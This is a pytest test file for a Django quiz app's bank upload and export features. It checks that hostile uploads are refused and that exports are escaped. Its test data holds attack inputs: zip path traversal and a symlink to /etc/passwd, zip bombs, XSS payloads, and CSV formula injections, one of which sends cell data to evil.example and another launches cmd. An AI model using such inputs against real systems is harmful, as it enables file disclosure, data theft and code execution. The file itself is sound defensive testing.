"""Staff add a bank from the browser: the upload is hostile until read, the dry run writes nothing, the import
runs in the worker (django-tasks-db's DatabaseBackend, the worker run here in batch mode) and the page shows
how far it got. Also the exports: an Anki deck with stable note ids, CSV, a bank's markdown."""

import csv
import html
import io
import json
import re
import sqlite3
import stat
import tempfile
import zipfile
from datetime import timedelta
from io import StringIO

import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from quiz import bank_imports, decks, importer
from quiz.models import Bank, BankUpload, Grade, MockInterview, Question, Section
from tests.test_xss import PAYLOADS, _plain_like, live_markup, page_nonce

UPLOAD = "/banks/upload/"
TEAM = {
    "team/bank.toml": (
        'title = "Team questions"\nsource = "https://example.com/team"\nlicence = "CC-BY-4.0"\n'
    ),
    "team/python.md": "# Python\n\n## Generators\n\n### What does yield do?\nIt pauses the function.\n\n"
    "### What is a decorator?\nA function that wraps another.\n\n## Stray\nA line no question uses.\n",
    "team/sql.md": "# SQL\n\n### What is a join?\nIt combines rows of two tables.\n\n### What is an index?\n",
    "team/notes.txt": "not markdown: skipped",
}


def zip_file(entries: dict, name: str = "team.zip") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, bank_imports.zip_bytes(entries), content_type="application/zip")


@pytest.fixture
def staff_client(staff_user) -> Client:
    client = Client()
    client.force_login(staff_user)
    return client


def run_worker() -> None:
    call_command("db_worker", batch=True, startup_delay=False, reload=False, verbosity=0, stdout=StringIO())


def written_rows() -> tuple:
    return (
        Bank.objects.count(),
        Section.objects.count(),
        Question.objects.count(),
        Question.history.count(),
    )


def test_the_dry_run_shows_each_file_and_writes_nothing(staff_client, question):
    before = written_rows()
    response = staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
    assert response.status_code == 302
    page = staff_client.get(response["Location"]).content.decode()
    parsed = importer.parse_bank(
        {k.removeprefix("team/"): v for k, v in TEAM.items() if k != "team/notes.txt"}
    )
    for source in parsed.files:
        answered = sum(1 for q in source.questions if q.answer_md)
        cells = f'<td>{source.layout}</td><td class="num">{len(source.questions)}</td>'
        assert f"<code>{source.path}</code></th>{cells}" in page
        assert f'<td class="num">{answered}</td><td class="num">{len(source.ignored)}</td>' in page
    assert "Team questions" in page and "https://example.com/team" in page and "CC-BY-4.0" in page
    assert "notes.txt: not read (only markdown files and bank.toml are)" in page
    samples = [q for f in parsed.files for q in f.questions][: bank_imports.SAMPLES]
    assert all(f'<div class="prompt"><p>{q.prompt_md}</p></div>' in page for q in samples)
    assert written_rows() == before  # nothing of the bank: only the stashed upload
    assert BankUpload.objects.get().status == BankUpload.Status.CHECKED


# The worker checks its connections as a long-running process does (close_old_connections), which closes a
# connection held open inside a test's transaction: this test commits for real, as the worker and app do.
@pytest.mark.django_db(transaction=True)
def test_import_runs_in_the_worker_and_the_page_shows_its_progress(staff_client, user):
    detail = staff_client.post(UPLOAD, {"files": zip_file(TEAM)})["Location"]
    upload = BankUpload.objects.get()
    staff_client.post(f"/banks/uploads/{upload.pk}/import/")
    staff_client.post(f"/banks/uploads/{upload.pk}/import/")  # a second click queues nothing more
    polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
    assert polled.count("Waiting for the worker") == 1 and 'hx-trigger="every 1s"' in polled
    assert not Bank.objects.filter(slug="team").exists()

    run_worker()

    upload.refresh_from_db()
    assert upload.status == BankUpload.Status.DONE and upload.bank.slug == "team"
    assert Question.objects.filter(section__bank__slug="team").count() == 4
    polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
    assert "Imported" in polled and "4 created" in polled and "hx-trigger" not in polled


def test_an_upload_with_bad_markdown_cannot_be_imported(staff_client):
    broken = {"a.md": b"# A\n\n### Why?\n\xff\xfe not UTF-8\n"}
    detail = staff_client.post(UPLOAD, {"files": zip_file(broken)})["Location"]
    page = staff_client.get(detail).content.decode()
    assert "Problems: nothing can be imported" in page and "<code>a.md:" in page
    upload = BankUpload.objects.get()
    staff_client.post(f"/banks/uploads/{upload.pk}/import/")
    upload.refresh_from_db()
    assert upload.status == BankUpload.Status.CHECKED and not Bank.objects.filter(slug="a").exists()


def test_md_files_upload_without_an_archive(staff_client):
    files = [
        SimpleUploadedFile("sql.md", TEAM["team/sql.md"].encode()),
        SimpleUploadedFile("x.png", b"\x89PNG"),
    ]
    detail = staff_client.post(UPLOAD, {"files": files, "slug": "sql"})["Location"]
    page = staff_client.get(detail).content.decode()
    assert "<code>sql.md</code>" in page and "x.png: not read" in page


def test_staff_without_the_permission_to_add_banks_are_refused(db):
    clerk = get_user_model().objects.create_user("clerk", is_staff=True)
    client = Client()
    client.force_login(clerk)
    assert client.get(UPLOAD).status_code == 403
    clerk.user_permissions.add(Permission.objects.get(codename="add_bank"))
    client.force_login(get_user_model().objects.get(pk=clerk.pk))
    assert client.get(UPLOAD).status_code == 200


# -- hostile uploads: each refusal says why, and nothing is kept --


def symlink_zip() -> SimpleUploadedFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("bank/link.md")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return SimpleUploadedFile("bank.zip", buffer.getvalue())


def encrypted_zip() -> SimpleUploadedFile:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.md", "# A\n")
    data = bytearray(buffer.getvalue())
    for header in (b"PK\x03\x04", b"PK\x01\x02"):  # set the "encrypted" bit in both headers
        at = data.find(header)
        flag = at + (6 if header == b"PK\x03\x04" else 8)
        data[flag] |= 1
    return SimpleUploadedFile("bank.zip", bytes(data))


def bad_crc_zip() -> SimpleUploadedFile:
    """An entry whose bytes do not match the CRC-32 its headers give (zipfile raises "Bad CRC-32")."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("bank/a.md", "# A\n\n### Why?\nBecause of the CRC.\n")
    data = bytearray(buffer.getvalue())
    at = data.index(b"Because")
    data[at] ^= 0x20  # "because": one bit changed after the CRC was written
    return SimpleUploadedFile("bank.zip", bytes(data), content_type="application/zip")


@pytest.mark.parametrize(
    ("upload", "message"),
    [
        (lambda: zip_file({"../escape.md": "# x\n"}), "&#x27;..&#x27; in a path is refused"),
        (lambda: zip_file({"bank/../../escape.md": "# x\n"}), "&#x27;..&#x27; in a path is refused"),
        (lambda: zip_file({"/etc/escape.md": "# x\n"}), "an absolute path is refused"),
        (lambda: zip_file({"C:/escape.md": "# x\n"}), "an absolute path is refused"),
        (lambda: zip_file({"a\\..\\b.md": "# x\n"}), "a file name with a backslash"),
        (symlink_zip, "a symbolic link is refused"),
        (encrypted_zip, "encrypted archives are refused"),
        (lambda: SimpleUploadedFile("bank.zip", b"PK not really"), "is not a readable .zip archive"),
        (bad_crc_zip, "is not a readable .zip archive"),
        (lambda: zip_file({"a.txt": "x", "b.png": "y"}), "The upload holds no markdown (.md) file."),
        (lambda: [zip_file({"a.md": "# A\n"}), SimpleUploadedFile("b.md", b"# B\n")], "on its own"),
    ],
)
def test_a_hostile_upload_is_refused_with_its_reason(staff_client, upload, message):
    response = staff_client.post(UPLOAD, {"files": upload()})
    assert response.status_code == 422
    assert message in response.content.decode()
    assert not BankUpload.objects.exists()


def test_uploads_past_the_limits_are_refused(staff_client, monkeypatch):
    monkeypatch.setattr(bank_imports, "MAX_FILES", 3)
    many = {f"bank/{n}.md": f"# {n}\n" for n in range(4)}
    assert (
        "more than 3 markdown files" in staff_client.post(UPLOAD, {"files": zip_file(many)}).content.decode()
    )
    monkeypatch.setattr(bank_imports, "MAX_ENTRIES", 5)
    crowded = {f"bank/{n}.txt": "x" for n in range(6)}
    assert "more than 5 entries" in staff_client.post(UPLOAD, {"files": zip_file(crowded)}).content.decode()
    # A zip bomb: a small archive whose file inflates past the limit, whatever size its header declares.
    monkeypatch.setattr(bank_imports, "MAX_FILE_BYTES", 10_000)
    bomb = zip_file({"a.md": "#" * 50_000})
    assert bomb.size < 1_000
    assert "larger than" in staff_client.post(UPLOAD, {"files": bomb}).content.decode()
    monkeypatch.setattr(bank_imports, "MAX_UPLOAD_BYTES", 100)
    assert "larger than" in staff_client.post(UPLOAD, {"files": zip_file(TEAM)}).content.decode()
    assert not BankUpload.objects.exists()


MB = 2**20


def refusal(client: Client, files) -> str:
    response = client.post(UPLOAD, {"files": files})
    assert response.status_code in (400, 413, 422), response.status_code
    return response.content.decode()


def test_the_real_upload_limits_are_the_ones_the_readme_gives(staff_client):
    """10 MB sent, 500 markdown files, 2 MB per file and 20 MB inflated in all: each path runs, unpatched."""
    question = b"# A\n\n### Why?\nBecause.\n"
    just_over_sent = [SimpleUploadedFile(f"{n}.md", question + b"x" * (5 * MB)) for n in range(2)]
    assert "The upload is larger than 10 MB." in refusal(staff_client, just_over_sent)
    too_many = {f"bank/{n}.md": question for n in range(501)}
    assert "The archive has more than 500 markdown files." in refusal(staff_client, zip_file(too_many))
    # Loose .md files stop sooner, at Django's 100 files a request, with the advice to zip them.
    loose = [SimpleUploadedFile(f"{n}.md", question) for n in range(101)]
    assert "More than 100 files: put them in one .zip archive." in refusal(staff_client, loose)
    one_big = question + b"x" * (2 * MB)
    assert "big.md is larger than 2 MB." in refusal(staff_client, SimpleUploadedFile("big.md", one_big))
    bomb = zip_file({"bank/big.md": one_big})
    assert bomb.size < 20_000  # small as sent: only inflating it finds the size
    assert "bank/big.md is larger than 2 MB uncompressed." in refusal(staff_client, bomb)
    # Eleven files each just under 2 MB: each passes, together they inflate past 20 MB.
    just_under = question + b"x" * (2 * MB - len(question) - 1)
    inflating = zip_file({f"bank/{n}.md": just_under for n in range(11)})
    assert "The archive holds more than 20 MB uncompressed." in refusal(staff_client, inflating)
    assert not BankUpload.objects.exists()
    # Up to the limits the same files are read: 500 of them, nine just under 2 MB, over 18 MB in all.
    big = {f"bank/big{n}.md": just_under for n in range(9)}
    sources, _, _ = bank_imports.read_upload([zip_file({f"bank/{n}.md": question for n in range(491)} | big)])
    assert len(sources) == 500 and 18 * MB < sum(map(len, sources.values())) <= 20 * MB


def test_a_request_past_the_size_limit_is_refused_before_its_body_is_read(staff_client, monkeypatch):
    monkeypatch.setattr("quiz.views.banks.MAX_REQUEST_BYTES", 1_000)
    response = staff_client.post(UPLOAD, {"files": SimpleUploadedFile("a.md", b"#" * 5_000)})
    assert response.status_code == 413 and "The upload is larger than" in response.content.decode()
    assert not BankUpload.objects.exists()


def test_too_many_md_files_in_one_request_are_refused_with_advice(staff_client, settings):
    settings.DATA_UPLOAD_MAX_NUMBER_FILES = 2
    files = [SimpleUploadedFile(f"{n}.md", b"# A\n\n### Why?\nBecause.\n") for n in range(3)]
    response = staff_client.post(UPLOAD, {"files": files})
    assert response.status_code == 400 and "put them in one .zip archive" in response.content.decode()
    assert not BankUpload.objects.exists()


# -- the XSS corpus through uploaded names and content, and the dry-run page --


def dry_run_page(client: Client, entries: dict) -> tuple:
    response = client.post(UPLOAD, {"files": zip_file(entries)})
    if response.status_code != 302:
        return response, response
    return response, client.get(response["Location"])


def test_payloads_in_uploaded_file_names_stay_text(staff_client):
    names, refused = {}, []
    for n, payload in enumerate(PAYLOADS):
        name = f"{payload}-{n}.md"
        try:
            bank_imports._checked_path(name)
        except bank_imports.UploadRefused:
            refused.append(name)
        else:
            names[name] = f"# File {n}\n\n### Question {n}?\nAnswer {n}.\n"
    benign = {
        f"plain/{_plain_like(name)}-{n}.md".replace("/", "-", 1): text
        for n, (name, text) in enumerate(names.items())
    }
    _, hostile_page = dry_run_page(staff_client, names)
    _, benign_page = dry_run_page(staff_client, benign)
    assert hostile_page.status_code == benign_page.status_code == 200
    assert (
        live_markup(hostile_page.content.decode(), benign_page.content.decode(), page_nonce(hostile_page))
        == []
    )
    assert refused  # the names that leave the bank come back in a refusal, as text
    benign_refusal = staff_client.post(UPLOAD, {"files": zip_file({"../plain.md": "x"})}).content.decode()
    for name in refused:
        response = staff_client.post(UPLOAD, {"files": zip_file({name: "# x\n"})})
        assert response.status_code == 422
        assert live_markup(response.content.decode(), benign_refusal, page_nonce(response)) == [], name


def test_payloads_in_uploaded_markdown_stay_text_on_the_dry_run(staff_client):
    def bank(texts) -> dict:
        body = "".join(f"### {' '.join(t.split())}?\n{t}\n\n" for t in texts)
        return {"bank/a.md": "# Payloads\n\n" + body, "bank/b.md": "".join(f"{t}\n" for t in texts)}

    _, hostile = dry_run_page(staff_client, bank(PAYLOADS))
    _, benign = dry_run_page(staff_client, bank(_plain_like(p) for p in PAYLOADS))
    assert hostile.status_code == benign.status_code == 200
    assert live_markup(hostile.content.decode(), benign.content.decode(), page_nonce(hostile)) == []


# -- exports --


@pytest.fixture
def team_bank(db):
    bank_imports.import_bank("team", {k.removeprefix("team/"): v for k, v in TEAM.items()}, reason="test")
    return Bank.objects.get(slug="team")


def anki_notes(apkg: bytes) -> dict[str, tuple]:
    """guid -> (fields, tags) of every note in an .apkg (a zip holding Anki's SQLite collection)."""
    with zipfile.ZipFile(io.BytesIO(apkg)) as archive, tempfile.NamedTemporaryFile() as handle:
        handle.write(archive.read("collection.anki2"))
        handle.flush()
        rows = sqlite3.connect(handle.name).execute("select guid, flds, tags from notes").fetchall()
    return {guid: (fields.split("\x1f"), tags.split()) for guid, fields, tags in rows}


def test_a_bank_exports_as_an_anki_deck_whose_notes_keep_their_ids(client_in, team_bank):
    first = anki_notes(client_in.get("/questions/export/", {"bank": "team", "format": "apkg"}).content)
    questions = Question.objects.filter(section__bank=team_bank)
    assert sorted(fields[2] for fields, _ in first.values()) == sorted(q.key for q in questions)
    join = questions.get(prompt_md="What is a join?")
    assert [join.prompt_html, join.answer_html] in [fields[:2] for fields, _ in first.values()]
    bank_imports.import_bank(
        "team",
        {"sql.md": "# SQL\n\n### What is a join?\nRows of two tables, matched on a condition.\n"},
        reason="t",
    )
    again = anki_notes(client_in.get("/questions/export/", {"bank": "team", "format": "apkg"}).content)
    [(guid, (fields, _))] = again.items()
    assert guid in first and fields[1] == "<p>Rows of two tables, matched on a condition.</p>"


def test_my_missed_questions_export_as_csv(client_in, user, team_bank):
    join = Question.objects.get(prompt_md="What is a join?")
    other = Question.objects.get(prompt_md="What is a decorator?")
    interview = MockInterview.start(user, [join, other])
    interview.grade(interview.current_item(), Grade.MISSED)
    interview.grade(interview.current_item(), Grade.GOOD)
    response = client_in.get("/questions/export/", {"missed": "on", "format": "csv"})
    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert (row["key"], row["bank"], row["question"], row["answer"]) == (
        join.key,
        "team",
        "What is a join?",
        "It combines rows of two tables.",
    )
    assert 'filename="my-selection.csv"' in response["Content-Disposition"]


def test_a_bank_exports_as_its_markdown(client_in, team_bank):
    response = client_in.get("/questions/export/", {"bank": "team", "format": "md"})
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    again = importer.parse_bank(files)
    keys = {f"team/{q.key}" for f in again.files for q in f.questions}
    assert keys == set(
        Question.objects.filter(section__bank=team_bank, retired=False).values_list("key", flat=True)
    )
    assert again.title == "Team questions"


@pytest.mark.parametrize("kind", ["csv", "apkg"])
def test_an_export_runs_the_same_queries_for_any_number_of_questions(
    client_in, team_bank, kind, django_assert_num_queries
):
    def export() -> None:
        assert client_in.get("/questions/export/", {"bank": "team", "format": kind}).status_code == 200

    export()  # the session is read once and cached
    # session, user, the bank choice, the questions with their sections and banks
    with django_assert_num_queries(4):
        export()
    more = {f"more{n}.md": f"# More {n}\n\n### Question {n}?\nAnswer {n}.\n" for n in range(20)}
    bank_imports.import_bank(
        "team", {**{k.removeprefix("team/"): v for k, v in TEAM.items()}, **more}, reason="t"
    )
    with django_assert_num_queries(4):
        export()


def test_a_queued_import_no_worker_takes_stops_polling_and_says_why(staff_client):
    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
    upload = BankUpload.objects.get()
    detail = f"/banks/uploads/{upload.pk}/"
    staff_client.post(f"{detail}import/")
    polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
    assert 'hx-trigger="every 1s"' in polled and "import-unclaimed" not in polled
    with time_machine.travel(timezone.now() + timedelta(minutes=3)):
        polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
    assert "hx-trigger" not in polled
    assert "No worker has picked this import up yet" in polled and "manage.py db_worker" in polled


def test_an_import_whose_worker_went_silent_elsewhere_is_failed_and_can_be_retried(staff_client):
    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
    upload = BankUpload.objects.get()
    detail = f"/banks/uploads/{upload.pk}/"
    staff_client.post(f"{detail}import/")
    BankUpload.objects.filter(pk=upload.pk).update(
        status=BankUpload.Status.RUNNING, worker="another-host:4242", heartbeat_at=timezone.now()
    )
    assert "hx-trigger" in staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
    with time_machine.travel(timezone.now() + timedelta(minutes=16)):
        polled = staff_client.get(detail, headers={"HX-Request": "true"}).content.decode()
    assert "The worker stopped during the import" in polled and "hx-trigger" not in polled
    staff_client.post(f"{detail}import/")  # Retry
    upload.refresh_from_db()
    assert upload.status == BankUpload.Status.QUEUED and upload.result == ""


def six_questions(answers: dict[int, str]) -> str:
    """A file of six questions (the dry run shows five); ``answers`` replaces some answers by position."""
    body = ["# Six\n"]
    for i in range(6):
        body.append(f"### Question {i}?\n{answers.get(i, f'Answer {i}.')}\n")
    return "\n".join(body)


NESTED = "\n".join("  " * depth + "- level" for depth in range(20)) + "\n"


@pytest.mark.parametrize(
    "files, where, says",
    [
        ({"bank.toml": 'title = "T"\n\nsource = "javascript:alert(1)"\n'}, "bank.toml:3", "web address"),
        ({"six.md": six_questions({5: "A long line of an answer.\n" * 800})}, "six.md:18", "20,000 can be"),
        ({"six.md": six_questions({0: NESTED})}, "six.md:3", "nested more than"),
        ({"six.md": six_questions({5: NESTED})}, "six.md:18", "nested more than"),
    ],
    ids=["javascript-source", "too-long-after-the-samples", "too-deep-in-the-samples", "too-deep-after"],
)
def test_the_dry_run_refuses_what_the_import_would_with_file_and_line(staff_client, files, where, says):
    sources = {"six.md": six_questions({}), **files}
    detail = staff_client.post(UPLOAD, {"files": zip_file(sources), "slug": "six"})["Location"]
    response = staff_client.get(detail)
    page = response.content.decode()
    assert response.status_code == 200
    assert "Problems: nothing can be imported" in page
    assert f"<code>{where}</code>" in page and says in page
    upload = BankUpload.objects.get()
    staff_client.post(f"{detail}import/")
    upload.refresh_from_db()
    assert upload.status == BankUpload.Status.CHECKED and not Bank.objects.filter(slug="six").exists()


def test_a_failed_import_keeps_and_shows_its_reason(staff_client, monkeypatch):
    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
    upload = BankUpload.objects.get()

    def refuse(*args, **kwargs):
        raise importer.ContentError([importer.Problem("python.md", 7, "a reason the loader found")])

    monkeypatch.setattr(bank_imports, "load", refuse)
    bank_imports.run_import(upload)
    polled = staff_client.get(f"/banks/uploads/{upload.pk}/", headers={"HX-Request": "true"}).content.decode()
    assert "<strong>Failed</strong>: 1 problem in the content" in polled
    assert "python.md:7: a reason the loader found" in polled


def clerk_with(*codenames: str) -> Client:
    """Staff holding only these bank permissions."""
    clerk = get_user_model().objects.create_user("clerk", is_staff=True)
    clerk.user_permissions.add(*Permission.objects.filter(codename__in=codenames))
    client = Client()
    client.force_login(clerk)
    return client


def test_add_bank_alone_cannot_replace_the_bundled_bank(question, settings):
    clerk = clerk_with("add_bank")
    bundled = {f"{settings.BUNDLED_BANK}/python.md": TEAM["team/python.md"]}
    detail = clerk.post(UPLOAD, {"files": zip_file(bundled), "slug": settings.BUNDLED_BANK})["Location"]
    page = clerk.get(detail).content.decode()
    assert "is the bundled bank" in page and "Import 2 questions" not in page
    upload = BankUpload.objects.get()
    assert clerk.post(f"{detail}import/").status_code == 403
    upload.refresh_from_db()
    assert upload.status == BankUpload.Status.CHECKED
    question.refresh_from_db()
    assert not question.retired


def test_nobody_replaces_the_bundled_bank_from_the_web(staff_client, question, settings):
    bundled = {"python.md": TEAM["team/python.md"]}
    detail = staff_client.post(UPLOAD, {"files": zip_file(bundled), "slug": settings.BUNDLED_BANK})[
        "Location"
    ]
    assert "is the bundled bank" in staff_client.get(detail).content.decode()
    assert staff_client.post(f"{detail}import/", {"confirm": "1"}).status_code == 403


def upload_team_again(client: Client, changes: dict[str, str]) -> str:
    return client.post(UPLOAD, {"files": zip_file({**TEAM, **changes}), "slug": "team"})["Location"]


def test_updating_an_existing_bank_needs_change_bank(team_bank):
    clerk = clerk_with("add_bank")
    detail = upload_team_again(clerk, {})
    assert "needs the permission to change banks" in clerk.get(detail).content.decode()
    assert clerk.post(f"{detail}import/").status_code == 403
    assert BankUpload.objects.get().status == BankUpload.Status.CHECKED


def test_the_dry_run_counts_what_an_update_adds_changes_and_retires_and_asks_first(team_bank):
    clerk = clerk_with("add_bank", "change_bank")
    sql = "# SQL\n\n### What is a join?\nIt combines rows.\n\n### What is a view?\nA stored query.\n"
    detail = upload_team_again(clerk, {"team/sql.md": sql})
    page = clerk.get(detail).content.decode()
    # sql.md had "join" and "index"; now "join" (changed) and "view" (added); "index" goes.
    assert "adds 1 question, changes 1 and retires 1." in page
    assert 'name="confirm"' in page
    clerk.post(f"{detail}import/")
    assert BankUpload.objects.get().status == BankUpload.Status.CHECKED  # not confirmed: not queued
    clerk.post(f"{detail}import/", {"confirm": "1"})
    assert BankUpload.objects.get().status == BankUpload.Status.QUEUED


def test_an_update_that_only_adds_asks_no_confirmation(team_bank):
    clerk = clerk_with("add_bank", "change_bank")
    extra = {"team/more.md": "# More\n\n### What is a set?\nAn unordered collection.\n"}
    detail = upload_team_again(clerk, extra)
    page = clerk.get(detail).content.decode()
    assert "adds 1 question, changes 0 and retires 0." in page and 'name="confirm"' not in page
    clerk.post(f"{detail}import/")
    assert BankUpload.objects.get().status == BankUpload.Status.QUEUED


# -- exports are safe for the program that opens them (issue 22.5, 22.6)


def anki_deck_names(apkg: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(apkg)) as archive, tempfile.NamedTemporaryFile() as handle:
        handle.write(archive.read("collection.anki2"))
        handle.flush()
        (decks,) = sqlite3.connect(handle.name).execute("select decks from col").fetchone()
    return [deck["name"] for deck in json.loads(decks).values()]


def test_the_xss_corpus_in_bank_toml_reaches_the_anki_deck_only_escaped(db):
    team = {k.removeprefix("team/"): v for k, v in TEAM.items() if k != "team/notes.txt"}
    bank_imports.import_bank("team", team, reason="test")
    questions = Question.objects.filter(section__bank__slug="team").select_related("section__bank")
    section = questions[0].section
    for payload in PAYLOADS:
        # Through bank.toml as an uploaded bank's title arrives (longer than the column holds: refused, with
        # its line), and as a section's title.
        manifest = f"title = {json.dumps(payload)}\n"
        if len(payload) > Bank._meta.get_field("title").max_length:
            with pytest.raises(importer.ContentError, match="bank.toml:1: title is at most 200 characters"):
                importer.read_manifest(manifest)
            continue
        title = importer.read_manifest(manifest).title
        assert title == payload
        section_title = payload[: Section._meta.get_field("title").max_length]
        Bank.objects.filter(slug="team").update(title=title)
        Section.objects.filter(pk=section.pk).update(title=section_title)
        chosen = questions.filter(section=section)
        apkg = decks.anki_deck(title, chosen)
        notes = anki_notes(apkg)
        for fields, _tags in notes.values():
            source = fields[3]
            assert source == html.escape(f"{title}: {section_title}")
            assert "<" not in source and ">" not in source
        assert html.escape(title) in anki_deck_names(apkg)
        assert not any("<" in name for name in anki_deck_names(apkg))


def test_the_question_csv_neutralises_formulas_in_every_cell(client_in, team_bank):
    question = Question.objects.get(prompt_md="What is a join?")
    Question.objects.filter(pk=question.pk).update(
        prompt_md="@SUM(A1:A9)", answer_md='=HYPERLINK("https://evil.example/?"&A1, "Click")'
    )
    Section.objects.filter(pk=question.section_id).update(title="+cmd|' /C calc'!A0")
    response = client_in.get("/questions/export/", {"bank": "team", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    row = next(r for r in rows if r["key"] == question.key)
    assert row["question"] == "'@SUM(A1:A9)"
    assert row["answer"] == '\'=HYPERLINK("https://evil.example/?"&A1, "Click")'
    assert row["section"] == "'+cmd|' /C calc'!A0"
    for cell in (c for r in rows for c in r.values()):
        assert cell[:1] not in ("=", "+", "-", "@")


def test_the_csv_question_column_reads_as_plain_text():
    from quiz.decks import plain_prompt

    assert plain_prompt("What does **`yield`** do, and *why* is __lazy__ good?") == (
        "What does `yield` do, and why is lazy good?"
    )
    assert plain_prompt("Is $a*b*c$ the same as 2 * 3 * 4?") == "Is $a*b*c$ the same as 2 * 3 * 4?"


def test_the_csv_export_of_a_bank_has_no_bold_markers(client_in):
    bank_imports.import_bank(
        "bold", {"q.md": "# Q\n\n### What is a **generator**?\nAn iterator.\n"}, reason="test"
    )
    response = client_in.get("/questions/export/?format=csv&bank=bold")
    rows = list(
        csv.DictReader(
            io.StringIO(
                b"".join(response.streaming_content).decode()
                if response.streaming
                else response.content.decode()
            )
        )
    )
    assert [row["question"] for row in rows if row["bank"] == "bold"] == ["What is a generator?"]


@pytest.mark.django_db(transaction=True)  # the worker closes the connection, as a real one does
def test_an_uploaded_banks_answers_say_who_imported_them_and_when(staff_client, staff_user):
    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
    upload = BankUpload.objects.get()
    staff_client.post(f"/banks/uploads/{upload.pk}/import/")
    run_worker()
    question = Question.objects.get(prompt_md="What does yield do?")
    page = staff_client.get(f"/questions/{question.pk}/").content.decode()
    today = timezone.localdate()
    assert f"Imported by {staff_user.get_username()} on {today:%-d %b %Y}; not yet reviewed here." in page
    assert "machine-written" not in page


def test_a_bank_imported_from_the_command_line_is_credited_to_an_administrator(db):
    bank_imports.import_bank("team", {k.removeprefix("team/"): v for k, v in TEAM.items()}, reason="test")
    question = Question.objects.get(prompt_md="What does yield do?")
    assert question.provenance_note.startswith("Imported by an administrator on ")


@pytest.mark.django_db(transaction=True)  # the worker closes the connection, as a real one does
def test_start_an_interview_from_an_imported_bank_ticks_that_bank(staff_client, question):
    staff_client.post(UPLOAD, {"files": zip_file(TEAM)})
    upload = BankUpload.objects.get()
    staff_client.post(f"/banks/uploads/{upload.pk}/import/")
    run_worker()
    detail = staff_client.get(f"/banks/uploads/{upload.pk}/").content.decode()
    link = re.search(r'href="([^"]*)">Start an interview</a>', detail).group(1)
    assert link == "/interviews/new/?bank=team"
    setup = staff_client.get(link).content.decode()
    team = Bank.objects.get(slug="team")
    assert re.search(rf'<input type="checkbox" name="banks" value="{team.pk}"[^>]*checked', setup)
    assert len(re.findall(r'name="banks" value="\d+"[^>]*checked', setup)) == 1


def test_a_one_file_bank_without_a_title_is_called_what_its_heading_says(db):
    bank_imports.import_bank(
        "stats-basics",
        {"stats.md": "# Statistics basics\n\n### What is a p-value?\nA chance.\n"},
        reason="test",
    )
    assert Bank.objects.get(slug="stats-basics").title == "Statistics basics"


def test_the_dry_run_says_which_answers_give_no_checklist(staff_client):
    text = "# T\n\n### Why?\nBecause.\n\n### How?\nLike so.\n\nKey points:\n- like so\n"
    page = staff_client.post(
        UPLOAD, {"files": SimpleUploadedFile("t.md", text.encode()), "slug": "t"}, follow=True
    )
    assert "1 of 2 answers have no key points" in page.content.decode()
